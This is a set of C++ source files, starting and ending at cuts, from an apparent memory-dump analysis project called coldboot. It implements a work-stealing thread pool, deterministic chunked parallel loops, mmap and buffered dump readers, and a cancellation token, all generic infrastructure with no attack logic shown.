    Worker &me = *workers[self];
    {
        std::lock_guard<std::mutex> lk(me.mu);
        if (!me.tasks.empty()) {
            out = std::move(me.tasks.back());
            me.tasks.pop_back();
            queued.fetch_sub(1, std::memory_order_release);
            return true;
        }
    }
    // Steal half of the first non-empty victim deque, oldest tasks
    // first; one is executed now, the rest move to our deque (they
    // stay "queued" - only the executed task leaves the count).
    const unsigned n = workerCount();
    for (unsigned hop = 1; hop < n; ++hop) {
        Worker &victim = *workers[(self + hop) % n];
        std::vector<std::function<void()>> loot;
        {
            std::lock_guard<std::mutex> lk(victim.mu);
            size_t avail = victim.tasks.size();
            if (avail == 0)
                continue;
            size_t take = (avail + 1) / 2;
            loot.reserve(take);
            for (size_t i = 0; i < take; ++i) {
                loot.push_back(std::move(victim.tasks.front()));
                victim.tasks.pop_front();
            }
        }
        me.steals.fetch_add(1, std::memory_order_relaxed);
        me.tasks_stolen.fetch_add(loot.size(),
                                  std::memory_order_relaxed);
        c_steals->add();
        c_stolen->add(loot.size());
        out = std::move(loot.front());
        if (loot.size() > 1) {
            size_t depth;
            {
                std::lock_guard<std::mutex> lk(me.mu);
                for (size_t i = 1; i < loot.size(); ++i)
                    me.tasks.push_back(std::move(loot[i]));
                depth = me.tasks.size();
            }
            bumpHighWater(me.queue_hwm, depth);
        }
        queued.fetch_sub(1, std::memory_order_release);
        return true;
    }
    return false;
}

void
ThreadPool::execute(unsigned self, std::function<void()> &task)
{
    // Count before running: completion is signaled from inside the
    // task (TaskGroup's wrapper), so a waiter that saw the last task
    // finish must already find these counters consistent.
    workers[self]->tasks_executed.fetch_add(
        1, std::memory_order_relaxed);
    c_tasks->add();
    try {
        task();
    } catch (...) {
        // TaskGroup tasks catch internally; a throwing fire-and-
        // forget submit() task is a contract violation.
        cb_fatal("ThreadPool: unhandled exception escaped a "
                 "fire-and-forget task");
    }
    task = nullptr;
}

bool
ThreadPool::helpOne()
{
    if (tl_pool != this)
        return false;
    std::function<void()> task;
    if (!claimTask(tl_worker, task))
        return false;
    execute(tl_worker, task);
    return true;
}

void
ThreadPool::workerMain(unsigned self)
{
    tl_pool = this;
    tl_worker = self;
    Worker &me = *workers[self];
    std::function<void()> task;
    while (true) {
        if (claimTask(self, task)) {
            execute(self, task);
            continue;
        }
        std::unique_lock<std::mutex> lk(park_mu);
        if (stopping.load(std::memory_order_acquire) &&
            queued.load(std::memory_order_acquire) == 0)
            break;
        if (queued.load(std::memory_order_acquire) > 0) {
            // A task exists but was mid-steal when we scanned; retry
            // rather than sleeping on it.
            lk.unlock();
            std::this_thread::yield();
            continue;
        }
        me.parks.fetch_add(1, std::memory_order_relaxed);
        c_parks->add();
        auto park_start = std::chrono::steady_clock::now();
        park_cv.wait(lk, [&] {
            return stopping.load(std::memory_order_acquire) ||
                   queued.load(std::memory_order_acquire) > 0;
        });
        auto idle = std::chrono::steady_clock::now() - park_start;
        uint64_t ns = static_cast<uint64_t>(
            std::chrono::duration_cast<std::chrono::nanoseconds>(idle)
                .count());
        me.idle_ns.fetch_add(ns, std::memory_order_relaxed);
        d_idle->sample(static_cast<double>(ns) * 1e-9);
        if (stopping.load(std::memory_order_acquire) &&
            queued.load(std::memory_order_acquire) == 0)
            break;
    }
    tl_pool = nullptr;
}

PoolStats
ThreadPool::stats() const
{
    PoolStats out;
    out.per_worker.reserve(workers.size());
    for (const auto &w : workers) {
        WorkerStats s;
        s.tasks_executed =
            w->tasks_executed.load(std::memory_order_relaxed);
        s.steals = w->steals.load(std::memory_order_relaxed);
        s.tasks_stolen =
            w->tasks_stolen.load(std::memory_order_relaxed);
        s.parks = w->parks.load(std::memory_order_relaxed);
        s.idle_seconds =
            static_cast<double>(
                w->idle_ns.load(std::memory_order_relaxed)) *
            1e-9;
        s.queue_high_water =
            w->queue_hwm.load(std::memory_order_relaxed);
        out.per_worker.push_back(s);
    }
    return out;
}

void
ThreadPool::publishWorkerStats() const
{
    auto &registry = obs::StatRegistry::global();
    PoolStats snap = stats();
    for (size_t i = 0; i < snap.per_worker.size(); ++i) {
        const WorkerStats &w = snap.per_worker[i];
        const std::string prefix =
            "exec.pool.worker." + std::to_string(i) + ".";
        registry.setScalar(prefix + "tasks_executed",
                           static_cast<double>(w.tasks_executed),
                           "tasks run by this worker");
        registry.setScalar(prefix + "steals",
                           static_cast<double>(w.steals),
                           "steal operations by this worker");
        registry.setScalar(prefix + "tasks_stolen",
                           static_cast<double>(w.tasks_stolen),
                           "tasks this worker moved over from other "
                           "deques");
        registry.setScalar(prefix + "parks",
                           static_cast<double>(w.parks),
                           "times this worker parked idle");
        registry.setScalar(prefix + "idle_seconds", w.idle_seconds,
                           "wall-clock seconds this worker spent "
                           "parked");
        registry.setScalar(prefix + "queue_high_water",
                           static_cast<double>(w.queue_high_water),
                           "deepest this worker's deque has been");
    }
}

ThreadPool *
ThreadPool::currentGlobal()
{
    {
        std::lock_guard<std::mutex> lk(g_override_mu);
        if (g_override != nullptr)
            return g_override;
    }
    return g_global_pool.load(std::memory_order_acquire);
}

void
ThreadPool::publishGlobalWorkerStats()
{
    if (ThreadPool *pool = currentGlobal())
        pool->publishWorkerStats();
}

ThreadPool &
ThreadPool::global()
{
    {
        std::lock_guard<std::mutex> lk(g_override_mu);
        if (g_override != nullptr)
            return *g_override;
    }
    static ThreadPool the_pool;
    g_global_pool.store(&the_pool, std::memory_order_release);
    return the_pool;
}

ThreadPool::ScopedGlobalOverride::ScopedGlobalOverride(ThreadPool &pool)
{
    std::lock_guard<std::mutex> lk(g_override_mu);
    previous = g_override;
    g_override = &pool;
}

ThreadPool::ScopedGlobalOverride::~ScopedGlobalOverride()
{
    std::lock_guard<std::mutex> lk(g_override_mu);
    g_override = previous;
}

//
// TaskGroup
//

struct ThreadPool::TaskGroup::State
{
    std::mutex mu;
    std::condition_variable cv;
    size_t outstanding = 0;
    std::exception_ptr error;
};

ThreadPool::TaskGroup::TaskGroup(ThreadPool &p)
    : pool(p), state(std::make_shared<State>())
{
}

ThreadPool::TaskGroup::~TaskGroup()
{
    try {
        wait();
    } catch (...) {
        // Destructor swallows what an explicit wait() would have
        // thrown.
    }
}

void
ThreadPool::TaskGroup::run(std::function<void()> fn)
{
    {
        std::lock_guard<std::mutex> lk(state->mu);
        ++state->outstanding;
    }
    pool.submit([st = state, fn = std::move(fn)]() mutable {
        try {
            fn();
        } catch (...) {
            std::lock_guard<std::mutex> lk(st->mu);
            if (!st->error)
                st->error = std::current_exception();
        }
        // Destroy the captured callable before signaling completion:
        // wait() returning guarantees task captures are gone.
        fn = nullptr;
        std::unique_lock<std::mutex> lk(st->mu);
        size_t left = --st->outstanding;
        lk.unlock();
        if (left == 0)
            st->cv.notify_all();
    });
}

void
ThreadPool::TaskGroup::wait()
{
    if (tl_pool == &pool) {
        // On a worker: help drain queues so nested fan-outs make
        // progress; briefly sleep when every remaining task of the
        // group is already running elsewhere.
        while (true) {
            {
                std::unique_lock<std::mutex> lk(state->mu);
                if (state->outstanding == 0)
                    break;
            }
            if (!pool.helpOne()) {
                std::unique_lock<std::mutex> lk(state->mu);
                if (state->outstanding == 0)
                    break;
                state->cv.wait_for(lk,
                                   std::chrono::milliseconds(1));
            }
        }
    } else {
        std::unique_lock<std::mutex> lk(state->mu);
        state->cv.wait(lk,
                       [&] { return state->outstanding == 0; });
    }
    std::lock_guard<std::mutex> lk(state->mu);
    if (state->error) {
        std::exception_ptr e = state->error;
        state->error = nullptr;
        std::rethrow_exception(e);
    }
}

//
// Deterministic chunked parallel-for
//

uint64_t
chunkCount(uint64_t begin, uint64_t end, uint64_t grain)
{
    cb_assert(grain > 0, "chunkCount: zero grain");
    return end > begin ? (end - begin + grain - 1) / grain : 0;
}

ChunkRange
chunkAt(uint64_t begin, uint64_t end, uint64_t grain, uint64_t index)
{
    uint64_t lo = begin + index * grain;
    uint64_t hi = std::min(end, lo + grain);
    cb_assert(lo < hi, "chunkAt: index %llu out of range",
              static_cast<unsigned long long>(index));
    return {index, lo, hi};
}

void
parallelForChunks(uint64_t begin, uint64_t end, uint64_t grain,
                  const std::function<void(const ChunkRange &)> &fn,
                  ThreadPool *pool, bool sequential)
{
    const uint64_t n = chunkCount(begin, end, grain);
    if (n == 0)
        return;
    ThreadPool &p = pool != nullptr ? *pool : ThreadPool::global();
    if (sequential || n == 1 || p.workerCount() == 1) {
        for (uint64_t i = 0; i < n; ++i)
            fn(chunkAt(begin, end, grain, i));
        return;
    }
    obs::ScopedSpan span("exec.parallel_for");
    ThreadPool::TaskGroup group(p);
    for (uint64_t i = 0; i < n; ++i)
        group.run([&fn, begin, end, grain, i] {
            fn(chunkAt(begin, end, grain, i));
        });
    group.wait();
}

} // namespace coldboot::exec
