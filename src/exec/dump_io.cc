#include "exec/dump_io.hh"

#include <atomic>
#include <cerrno>
#include <cstdlib>
#include <cstring>

#include <fcntl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include "common/logging.hh"
#include "obs/stats.hh"

namespace coldboot::exec
{

namespace detail
{

namespace
{
/** nullptr = the real pread(2); tests swap in fault injectors. */
std::atomic<PreadFn> g_pread_shim{nullptr};
} // anonymous namespace

void
setPreadShimForTest(PreadFn fn)
{
    g_pread_shim.store(fn, std::memory_order_release);
}

} // namespace detail

namespace
{

/** pread through the test shim when one is installed. */
ssize_t
preadMaybeShimmed(int fd, void *buf, size_t count, off_t offset)
{
    if (detail::PreadFn shim =
            detail::g_pread_shim.load(std::memory_order_acquire))
        return shim(fd, buf, count, offset);
    return pread(fd, buf, count, offset);
}

/** Counts opens per backend so benches can confirm which path ran. */
void
noteOpen(const char *backend)
{
    obs::StatRegistry::global().counter(
        std::string("exec.dump_io.open.") + backend,
        "dump sources opened with this backend").add();
}

uint64_t
checkedFileSize(const std::string &path, int fd)
{
    struct stat st;
    if (fstat(fd, &st) != 0)
        cb_fatal("fstat '%s': %s", path.c_str(),
                 std::strerror(errno));
    if (!S_ISREG(st.st_mode))
        cb_fatal("'%s' is not a regular file", path.c_str());
    uint64_t size = static_cast<uint64_t>(st.st_size);
    if (size == 0 || size % 64 != 0)
        cb_fatal("dump '%s' size %llu is not a nonzero multiple of "
                 "64 bytes", path.c_str(),
                 static_cast<unsigned long long>(size));
    return size;
}

class MmapDumpSource final : public DumpSource
{
  public:
    MmapDumpSource(const uint8_t *base_, uint64_t size)
        : DumpSource(size), base(base_)
    {
    }

    ~MmapDumpSource() override
    {
        munmap(const_cast<uint8_t *>(base), size());
    }

    std::span<const uint8_t> contiguous() const override
    {
        return {base, size()};
    }

    std::span<const uint8_t> chunk(uint64_t offset, uint64_t len,
                                   ChunkBuffer &) const override
    {
        checkRange(offset, len);
        return {base + offset, len};
    }

    void prefetch(uint64_t offset, uint64_t len) const override
    {
        // A hint, not an access: clamp instead of fataling so
        // read-ahead loops can run past the dump tail.
        if (offset >= size())
            return;
        len = std::min(len, size() - offset);
        if (len == 0)
            return;
        // Round down to the page so madvise accepts the address; a
        // failed hint is harmless.
        uint64_t page = static_cast<uint64_t>(
            sysconf(_SC_PAGESIZE));
        uint64_t lo = offset & ~(page - 1);
        (void)madvise(const_cast<uint8_t *>(base + lo),
                      len + (offset - lo), MADV_WILLNEED);
    }

    const char *backendName() const override { return "mmap"; }

  private:
    const uint8_t *base;
};

class BufferedDumpSource final : public DumpSource
{
  public:
    BufferedDumpSource(std::string path_, int fd_, uint64_t size)
        : DumpSource(size), path(std::move(path_)), fd(fd_)
    {
    }

    ~BufferedDumpSource() override { close(fd); }

    std::span<const uint8_t> contiguous() const override
    {
        return {};
    }

    std::span<const uint8_t> chunk(uint64_t offset, uint64_t len,
                                   ChunkBuffer &buf) const override
    {
        checkRange(offset, len);
        uint8_t *dst = buf.ensure(len);
        uint64_t done = 0;
        while (done < len) {
            ssize_t got =
                preadMaybeShimmed(fd, dst + done, len - done,
                                  static_cast<off_t>(offset + done));
            if (got < 0) {
                if (errno == EINTR)
                    continue;
                cb_fatal("pread '%s' at %llu: %s", path.c_str(),
                         static_cast<unsigned long long>(
                             offset + done),
                         std::strerror(errno));
            }
            if (got == 0)
                cb_fatal("pread '%s': unexpected EOF at %llu",
                         path.c_str(),
                         static_cast<unsigned long long>(
                             offset + done));
            done += static_cast<uint64_t>(got);
        }
        return {dst, len};
    }

    void prefetch(uint64_t offset, uint64_t len) const override
    {
        if (offset >= size())
            return;
        len = std::min(len, size() - offset);
        if (len == 0)
            return;
#ifdef POSIX_FADV_WILLNEED
        (void)posix_fadvise(fd, static_cast<off_t>(offset),
                            static_cast<off_t>(len),
                            POSIX_FADV_WILLNEED);
#endif
    }

    const char *backendName() const override { return "buffered"; }

  private:
    std::string path;
    int fd;
};

} // anonymous namespace

ChunkBuffer::~ChunkBuffer()
{
    std::free(buf);
}

uint8_t *
ChunkBuffer::ensure(size_t bytes)
{
    if (bytes <= cap)
        return buf;
    std::free(buf);
    // Aligned-alloc sizes must be a multiple of the alignment.
    size_t rounded = (bytes + 63) & ~static_cast<size_t>(63);
    buf = static_cast<uint8_t *>(std::aligned_alloc(64, rounded));
    if (buf == nullptr)
        cb_fatal("ChunkBuffer: out of memory allocating %zu bytes",
                 rounded);
    cap = rounded;
    return buf;
}

void
DumpSource::prefetch(uint64_t, uint64_t) const
{
}

void
DumpSource::checkRange(uint64_t offset, uint64_t len) const
{
    if (offset > total || len > total - offset)
        cb_fatal("dump access [%llu, +%llu) outside %llu-byte dump",
                 static_cast<unsigned long long>(offset),
                 static_cast<unsigned long long>(len),
                 static_cast<unsigned long long>(total));
}

MemoryDumpSource::MemoryDumpSource(std::span<const uint8_t> bytes)
    : DumpSource(bytes.size()), view(bytes)
{
    if (bytes.empty() || bytes.size() % 64 != 0)
        cb_fatal("memory dump size %zu is not a nonzero multiple of "
                 "64 bytes", bytes.size());
}

std::span<const uint8_t>
MemoryDumpSource::chunk(uint64_t offset, uint64_t len,
                        ChunkBuffer &) const
{
    checkRange(offset, len);
    return view.subspan(offset, len);
}

std::unique_ptr<DumpSource>
openDumpSource(const std::string &path, DumpBackend backend)
{
    int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        cb_fatal("open '%s': %s", path.c_str(),
                 std::strerror(errno));
    uint64_t size = checkedFileSize(path, fd);

    bool want_mmap = backend != DumpBackend::Buffered;
    if (backend == DumpBackend::Auto &&
        std::getenv("COLDBOOT_NO_MMAP") != nullptr)
        want_mmap = false;

    if (want_mmap) {
        void *base = mmap(nullptr, size, PROT_READ, MAP_PRIVATE,
                          fd, 0);
        if (base != MAP_FAILED) {
            // The mapping survives closing the descriptor.
            close(fd);
            (void)madvise(base, size, MADV_SEQUENTIAL);
            noteOpen("mmap");
            return std::make_unique<MmapDumpSource>(
                static_cast<const uint8_t *>(base), size);
        }
        if (backend == DumpBackend::Mmap)
            cb_fatal("mmap '%s': %s", path.c_str(),
                     std::strerror(errno));
        cb_warn("mmap '%s' failed (%s); falling back to buffered "
                "reads", path.c_str(), std::strerror(errno));
    }

    noteOpen("buffered");
    return std::make_unique<BufferedDumpSource>(path, fd, size);
}

} // namespace coldboot::exec
