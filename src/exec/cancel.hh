/**
 * @file
 * Cooperative cancellation for long-running parallel work.
 *
 * A CancelToken is one shared atomic flag: the owner (a job scheduler
 * or a signal handler) raises it with requestCancel(), and the
 * workload polls it at natural checkpoint boundaries - the attack
 * scans check once per chunk, which bounds the cancel latency to one
 * chunk's scan time while keeping the hot loop untouched.
 *
 * checkpoint() throws CancelledError; the exception propagates
 * through ThreadPool::TaskGroup::wait() / parallelForChunks() exactly
 * like any workload exception, so a cancelled fan-out unwinds every
 * stage cleanly without poisoning the pool or any concurrent job
 * (each job carries its own token). Cancellation is observation of a
 * flag, never a forced unwind, so a run that is *not* cancelled takes
 * the same path as one with no token at all - the determinism
 * contract (DESIGN.md §9) is untouched.
 */

#ifndef COLDBOOT_EXEC_CANCEL_HH
#define COLDBOOT_EXEC_CANCEL_HH

#include <atomic>
#include <stdexcept>

namespace coldboot::exec
{

/** Thrown from CancelToken::checkpoint() once cancel is requested. */
class CancelledError : public std::runtime_error
{
  public:
    CancelledError() : std::runtime_error("operation cancelled") {}
};

/**
 * Shared cancellation flag. Thread-safe: any thread may request,
 * any number of workers may poll.
 */
class CancelToken
{
  public:
    CancelToken() = default;

    CancelToken(const CancelToken &) = delete;
    CancelToken &operator=(const CancelToken &) = delete;

    /** Raise the flag (idempotent, async-signal-safe). */
    void requestCancel()
    {
        flag.store(true, std::memory_order_release);
    }

    /** Whether cancellation has been requested. */
    bool cancelled() const
    {
        return flag.load(std::memory_order_acquire);
    }

    /**
     * Poll point: throws CancelledError once cancellation has been
     * requested, returns immediately otherwise (one relaxed-cost
     * atomic load on the common path).
     */
    void checkpoint() const
    {
        if (cancelled())
            throw CancelledError();
    }

  private:
    std::atomic<bool> flag{false};
};

/**
 * checkpoint() on a possibly-null token - the pattern every scan
 * loop uses, since cancellation is opt-in via a params pointer.
 */
inline void
checkpointIfCancellable(const CancelToken *token)
{
    if (token != nullptr)
        token->checkpoint();
}

} // namespace coldboot::exec

#endif // COLDBOOT_EXEC_CANCEL_HH
