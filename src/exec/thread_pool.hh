/**
 * @file
 * Work-stealing thread pool - the execution substrate every parallel
 * workload in the tree runs on (the dump scans are embarrassingly
 * parallel per 64-byte block; ROADMAP's north star demands they scale
 * with the hardware).
 *
 * Design:
 *  - one deque per worker; the owner pushes/pops at the back (LIFO,
 *    cache-warm), thieves steal half the queue from the front (FIFO,
 *    oldest first) so a single producer's backlog spreads in O(log n)
 *    steal operations;
 *  - idle workers park on a condition variable (no spin-waiting
 *    between bursts) and are woken per submitted task;
 *  - worker count resolves from the `COLDBOOT_THREADS` environment
 *    variable, an explicit setThreadOverride() (the CLI `--threads`
 *    flag), or std::thread::hardware_concurrency, in that priority
 *    order at pool construction;
 *  - destruction is graceful: every task already submitted runs to
 *    completion before the workers join;
 *  - task exceptions propagate to the submitter through
 *    TaskGroup::wait(), never to std::terminate.
 *
 * Determinism contract (see DESIGN.md §9): parallelForChunks() tiles
 * a range into fixed chunks whose *assignment* to workers is
 * arbitrary, and parallelMapReduceChunks() applies the reduction
 * strictly in chunk-index order - so any fold, even a
 * non-commutative one, produces output byte-identical to the
 * sequential run regardless of worker count or steal interleaving.
 *
 * Observability: per-worker tasks-executed / steal / park counters
 * and idle time are mirrored into obs::StatRegistry under
 * `exec.pool.*`, and every parallelForChunks() call records an
 * `exec.parallel_for` span in the PhaseTracer.
 */

#ifndef COLDBOOT_EXEC_THREAD_POOL_HH
#define COLDBOOT_EXEC_THREAD_POOL_HH

#include <atomic>
#include <condition_variable>
#include <cstdint>
#include <deque>
#include <functional>
#include <memory>
#include <mutex>
#include <optional>
#include <thread>
#include <vector>

namespace coldboot::obs
{
class Counter;
class Distribution;
} // namespace coldboot::obs

namespace coldboot::exec
{

/** Point-in-time statistics of one worker. */
struct WorkerStats
{
    uint64_t tasks_executed = 0;
    /** Successful steal operations this worker performed. */
    uint64_t steals = 0;
    /** Tasks this worker moved over from other workers' deques. */
    uint64_t tasks_stolen = 0;
    /** Times this worker parked on the idle condition variable. */
    uint64_t parks = 0;
    /** Wall-clock seconds spent parked. */
    double idle_seconds = 0.0;
    /** Deepest this worker's deque has ever been. */
    uint64_t queue_high_water = 0;
};

/** Aggregated pool statistics (see ThreadPool::stats()). */
struct PoolStats
{
    std::vector<WorkerStats> per_worker;

    uint64_t tasksExecuted() const;
    uint64_t steals() const;
    uint64_t tasksStolen() const;
};

/**
 * Parse a thread-count override ("4"); returns 0 for absent, empty,
 * non-numeric or zero input (0 = "no override"). Values are clamped
 * to 1024.
 */
unsigned parseThreadCount(const char *text);

/**
 * Worker count a new pool defaults to: setThreadOverride() value,
 * else COLDBOOT_THREADS, else hardware_concurrency (min 1).
 */
unsigned resolveThreadCount();

/**
 * Process-wide default worker count override (the CLI `--threads`
 * flag). 0 clears. Only affects pools constructed afterwards -
 * call it before the first ThreadPool::global() use.
 */
void setThreadOverride(unsigned n);

/**
 * The work-stealing pool.
 *
 * Tasks are submitted either fire-and-forget via submit() (the task
 * must not throw) or through a TaskGroup, which tracks completion
 * and propagates the first exception to wait(). A task may itself
 * submit further tasks (nested parallelism); a TaskGroup::wait()
 * executed on a worker thread helps drain queues instead of
 * blocking, so nesting cannot deadlock.
 */
class ThreadPool
{
  public:
    /** @param workers Worker count; 0 = resolveThreadCount(). */
    explicit ThreadPool(unsigned workers = 0);

    ThreadPool(const ThreadPool &) = delete;
    ThreadPool &operator=(const ThreadPool &) = delete;

    /** Graceful shutdown: runs every submitted task, then joins. */
    ~ThreadPool();

    unsigned workerCount() const
    {
        return static_cast<unsigned>(workers.size());
    }

    /**
     * Fire-and-forget submission. On a worker thread the task lands
     * on that worker's own deque; external submissions round-robin
     * across workers. The task must not throw (use a TaskGroup for
     * exception propagation). Submitting from outside the pool after
     * shutdown has begun is a fatal error.
     */
    void submit(std::function<void()> fn);

    /** Snapshot of the per-worker counters. */
    PoolStats stats() const;

    /**
     * Mirror stats() into the StatRegistry as per-worker scalars:
     * `exec.pool.worker.<i>.{tasks_executed,steals,tasks_stolen,
     * parks,idle_seconds,queue_high_water}`. The telemetry sampler
     * calls this each tick so scrapes see live per-worker load.
     */
    void publishWorkerStats() const;

    /**
     * The effective global pool *if one already exists*: the active
     * ScopedGlobalOverride's pool, else the global() singleton when
     * it has been constructed. Returns nullptr rather than creating
     * anything - observers must never instantiate a pool.
     */
    static ThreadPool *currentGlobal();

    /** publishWorkerStats() on currentGlobal(); no-op when none. */
    static void publishGlobalWorkerStats();

    /**
     * The process-global pool, created on first use with
     * resolveThreadCount() workers (or the pool installed by a
     * ScopedGlobalOverride).
     */
    static ThreadPool &global();

    /**
     * RAII swap of the global pool - tests and benches use it to run
     * the same workload over pools of different widths:
     *
     *     ThreadPool pool(7);
     *     ThreadPool::ScopedGlobalOverride ov(pool);
     *     // ThreadPool::global() now returns `pool`
     */
    class ScopedGlobalOverride
    {
      public:
        explicit ScopedGlobalOverride(ThreadPool &pool);
        ScopedGlobalOverride(const ScopedGlobalOverride &) = delete;
        ScopedGlobalOverride &
        operator=(const ScopedGlobalOverride &) = delete;
        ~ScopedGlobalOverride();

      private:
        ThreadPool *previous;
    };

    /**
     * Completion tracking + exception propagation for a batch of
     * tasks. The group may be waited from any thread; waiting from a
     * worker of the same pool helps execute queued tasks (of any
     * group) so nested fan-outs make progress instead of
     * deadlocking.
     */
    class TaskGroup
    {
      public:
        explicit TaskGroup(ThreadPool &pool);

        TaskGroup(const TaskGroup &) = delete;
        TaskGroup &operator=(const TaskGroup &) = delete;

        /** Waits for completion; pending exceptions are dropped. */
        ~TaskGroup();

        /** Submit one task belonging to this group. */
        void run(std::function<void()> fn);

        /**
         * Block (or help) until every task of the group completed;
         * rethrows the first exception any task raised.
         */
        void wait();

      private:
        struct State;
        ThreadPool &pool;
        std::shared_ptr<State> state;
    };

  private:
    struct Worker;

    void workerMain(unsigned self);
    bool claimTask(unsigned self, std::function<void()> &out);
    void execute(unsigned self, std::function<void()> &task);
    /** Claim and run one queued task; false when none available. */
    bool helpOne();

    std::vector<std::unique_ptr<Worker>> workers;
    std::vector<std::thread> threads;

    /** Registry stats cached at construction (lock-free hot path). */
    obs::Counter *c_tasks = nullptr;
    obs::Counter *c_steals = nullptr;
    obs::Counter *c_stolen = nullptr;
    obs::Counter *c_parks = nullptr;
    obs::Distribution *d_idle = nullptr;

    std::mutex park_mu;
    std::condition_variable park_cv;
    /** Tasks sitting in deques, not yet claimed by a worker. */
    std::atomic<uint64_t> queued{0};
    std::atomic<bool> stopping{false};
    std::atomic<uint64_t> next_rr{0};
};

//
// Deterministic chunked parallel-for
//

/** One chunk of a [begin, end) range: [this->begin, this->end). */
struct ChunkRange
{
    uint64_t index;
    uint64_t begin;
    uint64_t end;
};

/** Number of grain-sized chunks tiling [begin, end). */
uint64_t chunkCount(uint64_t begin, uint64_t end, uint64_t grain);

/** The @p index-th chunk of the tiling (index < chunkCount). */
ChunkRange chunkAt(uint64_t begin, uint64_t end, uint64_t grain,
                   uint64_t index);

/**
 * Apply @p fn to every grain-sized chunk of [begin, end), in
 * parallel on @p pool (nullptr = the global pool). Runs inline on
 * the calling thread when the range has a single chunk, the pool has
 * one worker, or @p sequential is set. @p fn must tolerate
 * concurrent invocation on distinct chunks; exceptions propagate to
 * the caller (first wins).
 */
void parallelForChunks(uint64_t begin, uint64_t end, uint64_t grain,
                       const std::function<void(const ChunkRange &)> &fn,
                       ThreadPool *pool = nullptr,
                       bool sequential = false);

/**
 * Deterministic ordered map-reduce over grain-sized chunks: @p map
 * runs in parallel (one call per chunk, any order), then @p reduce
 * consumes the per-chunk results strictly in ascending chunk order
 * on the calling thread. Because the reduction order is fixed, the
 * result is byte-identical to a sequential run for any fold,
 * commutative or not - this is what keeps mined-key / found-key
 * output independent of the worker count.
 *
 * @tparam T      Per-chunk result type (moved into @p reduce).
 * @param map     T map(const ChunkRange &)  - thread-safe.
 * @param reduce  void reduce(T &&, const ChunkRange &) - caller
 *                thread, ascending chunk index.
 */
template <typename T, typename MapFn, typename ReduceFn>
void
parallelMapReduceChunks(uint64_t begin, uint64_t end, uint64_t grain,
                        MapFn &&map, ReduceFn &&reduce,
                        ThreadPool *pool = nullptr,
                        bool sequential = false)
{
    const uint64_t n = chunkCount(begin, end, grain);
    if (n == 0)
        return;
    if (sequential || n == 1) {
        for (uint64_t i = 0; i < n; ++i) {
            ChunkRange c = chunkAt(begin, end, grain, i);
            reduce(map(c), c);
        }
        return;
    }
    // Distinct elements of `results` are written by distinct tasks;
    // TaskGroup::wait() inside parallelForChunks synchronizes them
    // with the ordered reduction below.
    std::vector<std::optional<T>> results(n);
    parallelForChunks(
        begin, end, grain,
        [&](const ChunkRange &c) { results[c.index].emplace(map(c)); },
        pool);
    for (uint64_t i = 0; i < n; ++i) {
        ChunkRange c = chunkAt(begin, end, grain, i);
        reduce(std::move(*results[i]), c);
        results[i].reset();
    }
}

} // namespace coldboot::exec

#endif // COLDBOOT_EXEC_THREAD_POOL_HH
