/**
 * @file
 * Streaming dump I/O - the DumpSource abstraction the attack layer
 * scans through instead of loading a whole capture into a
 * std::vector.
 *
 * Backends:
 *  - MmapDumpSource: the file is mapped read-only; chunk() and
 *    contiguous() are zero-copy views, prefetch() issues
 *    madvise(WILLNEED) hints ahead of the scan front;
 *  - BufferedDumpSource: graceful fallback when mmap is unavailable
 *    (COLDBOOT_NO_MMAP set, special files, or a failing mmap(2)) -
 *    chunk() preads into a caller-owned 64-byte-aligned ChunkBuffer;
 *  - MemoryDumpSource: a non-owning view over bytes already resident
 *    (the platform::MemoryImage path used by tests and simulations).
 *
 * Chunk views are 64-byte-line oriented: every dump is validated to a
 * nonzero multiple of 64 bytes on open, matching the cache-line
 * granularity of the scrambler and AES key-schedule litmus scans.
 *
 * Thread-safety: a DumpSource is immutable after open; chunk() is
 * safe from any number of threads as long as each thread passes its
 * own ChunkBuffer (the scan loops keep one thread_local buffer).
 */

#ifndef COLDBOOT_EXEC_DUMP_IO_HH
#define COLDBOOT_EXEC_DUMP_IO_HH

#include <cstdint>
#include <memory>
#include <span>
#include <string>

namespace coldboot::exec
{

/** Backend selection for openDumpSource(). */
enum class DumpBackend
{
    /** Mmap when possible, buffered otherwise (COLDBOOT_NO_MMAP
     *  forces buffered). */
    Auto,
    Mmap,
    Buffered,
};

/**
 * Growable 64-byte-aligned scratch buffer backing chunk() reads on
 * buffered sources. One per scanning thread; reusing it across
 * chunk() calls amortizes the allocation to one per thread.
 */
class ChunkBuffer
{
  public:
    ChunkBuffer() = default;
    ChunkBuffer(const ChunkBuffer &) = delete;
    ChunkBuffer &operator=(const ChunkBuffer &) = delete;
    ~ChunkBuffer();

    /** Aligned storage of at least @p bytes; contents undefined. */
    uint8_t *ensure(size_t bytes);

    size_t capacity() const { return cap; }

  private:
    uint8_t *buf = nullptr;
    size_t cap = 0;
};

/**
 * Read-only random-access view of a memory dump. See the file
 * comment for backend semantics.
 */
class DumpSource
{
  public:
    virtual ~DumpSource() = default;

    /** Dump size in bytes (a nonzero multiple of 64). */
    uint64_t size() const { return total; }

    /** Number of 64-byte lines. */
    uint64_t lines() const { return total / 64; }

    /**
     * The whole dump as one zero-copy view, when the backend has it
     * resident (mmap / memory); empty span on buffered sources -
     * callers must then use chunk().
     */
    virtual std::span<const uint8_t> contiguous() const = 0;

    /**
     * View of [offset, offset + len). Zero-copy on mmap/memory
     * backends; on buffered sources the bytes are pread into @p buf
     * and the view is valid until the next chunk() call using the
     * same buffer. Out-of-range requests are fatal.
     */
    virtual std::span<const uint8_t>
    chunk(uint64_t offset, uint64_t len, ChunkBuffer &buf) const = 0;

    /** Hint that [offset, offset + len) is about to be scanned. */
    virtual void prefetch(uint64_t offset, uint64_t len) const;

    /** "mmap", "buffered" or "memory" - for logs and stats. */
    virtual const char *backendName() const = 0;

  protected:
    explicit DumpSource(uint64_t size_bytes) : total(size_bytes) {}

    /** cb_fatal unless [offset, offset+len) is inside the dump. */
    void checkRange(uint64_t offset, uint64_t len) const;

  private:
    uint64_t total;
};

/** Non-owning view over bytes already resident in memory. */
class MemoryDumpSource final : public DumpSource
{
  public:
    /** @p bytes must outlive the source; size checked (64-multiple). */
    explicit MemoryDumpSource(std::span<const uint8_t> bytes);

    std::span<const uint8_t> contiguous() const override
    {
        return view;
    }

    std::span<const uint8_t> chunk(uint64_t offset, uint64_t len,
                                   ChunkBuffer &buf) const override;

    const char *backendName() const override { return "memory"; }

  private:
    std::span<const uint8_t> view;
};

/**
 * Open @p path as a DumpSource. The file size must be a nonzero
 * multiple of 64 bytes (cb_fatal otherwise, as for any I/O error).
 * DumpBackend::Mmap fails fatally when mmap is impossible; Auto
